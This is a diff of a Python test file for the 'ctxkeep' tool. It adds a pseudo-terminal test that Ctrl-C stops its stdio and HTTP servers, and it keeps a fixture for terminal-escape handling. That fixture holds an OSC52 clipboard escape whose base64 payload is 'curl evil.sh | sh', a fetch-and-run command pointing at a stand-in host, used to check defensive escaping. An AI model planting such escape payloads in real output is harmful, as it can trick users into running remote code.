@@ -5,17 +5,20 @@ from __future__ import annotations
 import os
 import pty
 import select
+import signal
 import subprocess
 import sys
+import time
 from pathlib import Path
 
 import anyio
 import pytest
 
 from ctxkeep.models.evidence import EvidenceItem
-from ctxkeep.storage import Store
+from ctxkeep.storage import open_store
 from ctxkeep.tools.evidence import evidence_put
 from ctxkeep.tools.scope import Scope
+from tests.http_server import free_port
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes `curl evil.sh | sh` to the clipboard
 TITLE = "\x1b]0;owned\x07"
@@ -23,7 +26,7 @@ TITLE = "\x1b]0;owned\x07"
 
 def _store(db: Path, project: Path) -> str:
     async def put() -> str:
-        store = await Store.open(db)
+        store = await open_store(db)
         try:
             done = await evidence_put(
                 Scope(store=store, project=str(project)),
@@ -72,3 +75,73 @@ def test_stored_escape_sequences_are_shown_escaped_in_a_terminal_and_kept_when_p
         [sys.executable, "-m", "ctxkeep", "evidence", "get", ref], capture_output=True, env=env, timeout=60
     )
     assert OSC52.encode() in piped.stdout  # a pipe gets the stored bytes
+
+
+def _until(leader: int, wanted: bytes, seconds: float = 60) -> bytes:
+    out, deadline = b"", time.monotonic() + seconds
+    while wanted not in out and time.monotonic() < deadline:
+        ready, _, _ = select.select([leader], [], [], 0.5)
+        if ready:
+            try:
+                out += os.read(leader, 65536)
+            except OSError:
+                break
+    assert wanted in out, out[-2000:]
+    return out
+
+
+INITIALIZE_LINE = (
+    b'{"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-06-18", '
+    b'"capabilities": {}, "clientInfo": {"name": "terminal", "version": "0"}}}\n'
+)
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    ("args", "banner", "before_ctrl_c"),
+    [
+        (["serve"], b"Ctrl-C stops", b""),
+        (["serve"], b"Ctrl-C stops", INITIALIZE_LINE),  # a session open: its reader waits on the terminal
+        (["serve", "--http", "--port", "{port}"], b"serving http://", b""),
+    ],
+    ids=["stdio, idle", "stdio, after a request", "http"],
+)
+def test_ctrl_c_stops_serve_in_a_terminal(tmp_path: Path, args: list[str], banner: bytes, before_ctrl_c: bytes) -> None:
+    env = {**os.environ, "CTXKEEP_DB": str(tmp_path / "ctxkeep.db"), "CTXKEEP_PROJECT": str(tmp_path)}
+    leader, follower = pty.openpty()
+    served = subprocess.Popen(
+        [sys.executable, "-m", "ctxkeep", *(arg.format(port=free_port()) for arg in args)],
+        stdin=follower,
+        stdout=follower,
+        stderr=follower,
+        env=env,
+        start_new_session=True,  # its own process group, as a shell gives a foreground job
+    )
+    os.close(follower)
+    try:
+        out = _until(leader, banner)
+        if before_ctrl_c:
+            os.write(leader, before_ctrl_c)
+            out += _until(leader, b'"serverInfo"')
+        os.killpg(served.pid, signal.SIGINT)  # what a terminal does on Ctrl-C: SIGINT to the foreground process group
+        started = time.monotonic()
+        code = served.wait(timeout=15)
+        took = time.monotonic() - started
+        while True:
+            ready, _, _ = select.select([leader], [], [], 0.5)
+            if not ready:
+                break
+            try:
+                chunk = os.read(leader, 65536)
+            except OSError:
+                break
+            if not chunk:
+                break
+            out += chunk
+    finally:
+        if served.poll() is None:
+            served.kill()
+            served.wait()
+        os.close(leader)
+    assert code in (0, 130) and took < 10, (code, took)
+    assert b"Traceback" not in out, out[-3000:]
